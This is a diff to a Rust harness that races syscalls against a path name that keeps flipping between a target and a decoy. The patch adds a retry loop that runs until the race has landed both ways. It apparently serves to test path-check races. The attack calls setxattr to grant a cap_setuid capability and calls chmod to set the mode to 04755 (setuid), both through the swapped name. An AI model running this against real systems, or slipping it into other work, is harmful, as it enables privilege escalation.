@@ -14,7 +14,8 @@
 //!   (by fchmod: records of their own, mode 644). Prints `truth I target|decoy|torn|failed`.
 //!
 //! The flip is one `memcpy` of equal lengths, so a torn copy can name a third attribute or
-//! file. The last line counts each outcome.
+//! file. At least N calls are made, more while the flip has not yet shown both ways (see
+//! [`more`]). The last line counts each outcome.
 use std::ffi::{CStr, CString};
 use std::os::unix::fs::PermissionsExt;
 use std::sync::Arc;
@@ -85,6 +86,25 @@ fn flipped(a: &str, b: &str) -> (usize, Arc<AtomicBool>, std::thread::JoinHandle
     (addr, stop, flipper)
 }
 
+/// How long the attack goes on past its N calls while the flip has not yet shown in both
+/// directions.
+const MORE_FOR: std::time::Duration = std::time::Duration::from_secs(60);
+
+/// Whether to make another call: until N are made, and then (up to 20 N, or `deadline`)
+/// until at least N/10 calls really used the real name and N/10 did not: the two threads
+/// can take turns instead of running at once (a loaded host, a guest whose CPUs are the
+/// host's threads), and then the name never changes during a call.
+fn more(truths: &[&str], n: usize, real: &str, deadline: std::time::Instant) -> bool {
+    if truths.len() < n {
+        return true;
+    }
+    let hit = truths.iter().filter(|t| **t == real).count();
+    let missed = truths.len() - hit;
+    truths.len() < 20 * n
+        && (hit < n / 10 || missed < n / 10)
+        && std::time::Instant::now() < deadline
+}
+
 /// The names of the extended attributes `path` has.
 fn xattrs(path: &CStr) -> Vec<String> {
     let mut buf = vec![0u8; 4096];
@@ -108,7 +128,8 @@ fn xattr_race(file: &str, name: &str, decoy: &str, n: usize) -> Vec<&'static str
     let value = cap_setuid_ep();
     let (addr, stop, flipper) = flipped(name, decoy);
     let mut truths = Vec::with_capacity(n);
-    for _ in 0..n {
+    let deadline = std::time::Instant::now() + MORE_FOR;
+    while more(&truths, n, "name", deadline) {
         // SAFETY: the path and the flipped buffer are NUL-ended and outlive the call.
         let r = unsafe {
             libc::setxattr(
@@ -150,7 +171,8 @@ fn chmod_race(target: &str, decoy: &str, n: usize) -> Vec<&'static str> {
     };
     let (addr, stop, flipper) = flipped(target, decoy);
     let mut truths = Vec::with_capacity(n);
-    for _ in 0..n {
+    let deadline = std::time::Instant::now() + MORE_FOR;
+    while more(&truths, n, "target", deadline) {
         // SAFETY: the flipped buffer is NUL-ended and outlives the call.
         let r = unsafe { libc::chmod(addr as *const libc::c_char, 0o4755) };
         truths.push(if r != 0 {
